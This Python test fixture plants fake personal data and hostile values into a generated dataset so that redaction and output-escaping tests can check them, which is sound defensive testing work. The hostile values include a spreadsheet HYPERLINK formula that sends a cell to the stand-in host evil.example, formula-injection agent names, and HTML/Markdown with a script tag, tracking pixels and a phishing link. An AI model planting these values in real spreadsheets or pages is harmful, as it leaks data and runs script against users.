"""What the `planted_run` fixture plants in a small generated landing set before its one
pipeline run: personal data (for the redaction tests) and hostile values (for the tests that
text from data stays data in pages and downloads).

Personal data: card numbers (written and read out), a social security number, a National
Insurance number, e-mail addresses (written and spoken) and phone numbers in every free-text
column, in an unknown extra column, in rows the contract quarantines (bad values, malformed
lines, a broken form file, a refused target) and in a typed column of a quarantined row;
other rows get ordinary numbers.

Hostile values (issue 21): a team name that is a spreadsheet formula fetching a link, a
process change whose id is a formula and whose description is Markdown and HTML fetching
outside images and links, the same text in a transcript turn and in the comment of every
failed answer, agent names starting with `@` and with a tab then `=`. None of them holds a
personal-data pattern, so the redaction leaves them as they are.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

# Card numbers are issuers' published test numbers (Luhn-valid); the others are reserved
# for documentation (Ofcom drama numbers 07700 900xxx, NANP 555-01xx, SSA-invalid-looking
# but well-formed SSN, HMRC-format NI).
PERSONAL = (
    "Card 4539 1488 0343 6467, or 5555-5555-5555-4444, or three seven eight two eight two"
    " two four six three one oh oh oh five; SSN 123-45-6789; NI JG 10 37 59 A;"
    " mail jane.doe@example.com or john dot smith at example dot org;"
    " phone 07700 900123 or (555) 201-0147"
)
ORDINARY = (
    "order 12345678 ref ORD-2026-000123 for $1,234.56 (£45.00) at 10:30 on 2026-06-01,"
    " 01/06/2026, 14:05:22, 250 units in 2026"
)
FREE_TEXT = {
    "transcripts": "text",
    "evaluation_answers": "comment",
    "csat_surveys": "comment",
    "coaching_sessions": "notes",
    "process_changes": "description",
}

EVIL_HOST = "evil.example"
HOSTILE_TEAM_ID = "T01"
HOSTILE_TEAM_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
HOSTILE_CHANGE_ID = "=2+3"
HOSTILE_CHANGE_AT = "2026-06-09T08:00:00Z"  # within the generated fortnight
HOSTILE_MARKUP = (
    "![x](http://evil.example/pixel.png) [click here](http://evil.example/phish)"
    ' <img src="http://evil.example/i.png"> <script>alert(1)</script> **bold**'
    " www.evil.example/bare https://evil.example/bare &lt;b&gt;"
)
HOSTILE_AGENT_NAMES = {"A0002": "@SUM(1+1) Sam", "A0003": "\t=1+2 Jo"}
# Whole values a spreadsheet would run (the change id shows only at the start of a stage's
# label, "=2+3: <description>").
FORMULA_VALUES = (HOSTILE_TEAM_NAME, *HOSTILE_AGENT_NAMES.values())

Edit = Callable[[list[dict]], tuple[list[str], list[str]]]


def rewrite_csv(path: Path, edit: Edit) -> None:
    """Rewrite a landed CSV: `edit` changes the rows in place and returns the header and any
    raw lines to append."""
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    header, extra_lines = edit(rows)
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=header)
        writer.writeheader()
        writer.writerows(rows)
        handle.writelines(extra_lines)


def plant_personal_data(landing: Path) -> None:
    """Personal data in the first row's free text, ordinary numbers in the second."""
    transcripts = next((landing / "transcripts").glob("*.parquet"))
    table = pq.read_table(transcripts)
    text = table.column("text").to_pylist()
    text[0], text[1] = PERSONAL, ORDINARY
    table = table.set_column(table.column_names.index("text"), "text", pa.array(text))
    remarks = [PERSONAL] + [None] * (table.num_rows - 1)
    pq.write_table(
        table.append_column("agent_remarks", pa.array(remarks, pa.string())), transcripts
    )
    first = table.slice(0, 1).to_pylist()[0]
    with (landing / "transcripts" / "transcripts_0002_broken.csv").open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["interaction_id", "turn_index", "speaker", "begin_offset_ms",
                         "end_offset_ms", "text"])  # fmt: skip
        writer.writerow([first["interaction_id"], "not a number", "customer", 0, 10, PERSONAL])
        writer.writerow([first["interaction_id"], "4539 1488 0343 6467", "agent", 0, 10, "hi"])
        handle.write(f'{first["interaction_id"]},999,customer,"{PERSONAL}",extra,fields,here\n')

    def first_rows(column: str, malformed: bool) -> Edit:
        def edit(rows):
            rows[0][column], rows[1][column] = PERSONAL, ORDINARY
            return list(rows[0]), ([f"broken,{PERSONAL}\n"] if malformed else [])

        return edit

    answers = next((landing / "evaluation_answers").glob("*.csv"))
    rewrite_csv(answers, first_rows("comment", malformed=True))

    def changes(rows):  # the generated file has a single change
        rows[0]["description"] = PERSONAL
        rows.append({**rows[0], "change_id": "PC_ORD", "description": ORDINARY})
        return list(rows[0]), []

    rewrite_csv(next((landing / "process_changes").glob("*.csv")), changes)

    def coaching(rows):
        rows[0]["notes"], rows[1]["notes"] = PERSONAL, ORDINARY
        for row in rows:
            row["coach_remarks"] = ""
        rows[0]["coach_remarks"] = PERSONAL
        return list(rows[0]), []

    rewrite_csv(next((landing / "coaching_sessions").glob("*.csv")), coaching)

    surveys = next((landing / "csat_surveys").glob("*.jsonl"))
    records = [json.loads(line) for line in surveys.read_text().splitlines() if line.strip()]
    records[0]["comment"], records[1]["comment"] = PERSONAL, ORDINARY
    bad = {**records[2], "survey_id": "SV_BAD", "csat": "call 07700 900123", "comment": PERSONAL}
    lines = [json.dumps(record) for record in [*records, bad]] + [f"{{not json {PERSONAL}"]
    surveys.write_text("\n".join(lines) + "\n")

    (landing / "forms" / "broken_form.yml").write_text(
        f"form_id: broken\n# owner: {PERSONAL}\nversion: [not, a, number\n"
    )
    (landing / "quality_targets" / "refused.yml").write_text(
        json.dumps(
            [{"metric": PERSONAL, "segment": "all", "target": 1, "effective_from": "2026-06-01"}]
        )  # fmt: skip
    )


def plant_hostile_values(landing: Path) -> None:
    """Formulas in a team name, a change id and agent names; Markdown and HTML in a change's
    description, the third transcript turn and the comment of every failed answer after the
    two rows plant_personal_data uses."""

    def roster(rows):
        for row in rows:
            if row["team_id"] == HOSTILE_TEAM_ID:
                row["team_name"] = HOSTILE_TEAM_NAME
            row["agent_name"] = HOSTILE_AGENT_NAMES.get(row["agent_id"], row["agent_name"])
        return list(rows[0]), []

    rewrite_csv(next((landing / "agents").glob("*.csv")), roster)

    def changes(rows):
        rows.append({**rows[0], "change_id": HOSTILE_CHANGE_ID,
                     "effective_at": HOSTILE_CHANGE_AT, "description": HOSTILE_MARKUP})  # fmt: skip
        return list(rows[0]), []

    rewrite_csv(next((landing / "process_changes").glob("*.csv")), changes)

    def failed_answers(rows):
        for row in rows[2:]:
            if row["answer"] == "no":
                row["comment"] = HOSTILE_MARKUP
        return list(rows[0]), []

    rewrite_csv(next((landing / "evaluation_answers").glob("*.csv")), failed_answers)

    transcripts = next((landing / "transcripts").glob("*.parquet"))
    table = pq.read_table(transcripts)
    text = table.column("text").to_pylist()
    text[2] = HOSTILE_MARKUP
    pq.write_table(
        table.set_column(table.column_names.index("text"), "text", pa.array(text)), transcripts
    )


def plant(landing: Path) -> None:
    """Everything the planted_run fixture lands: hostile values, then personal data (whose
    malformed lines a later rewrite of the same file would turn into proper rows)."""
    plant_hostile_values(landing)
    plant_personal_data(landing)
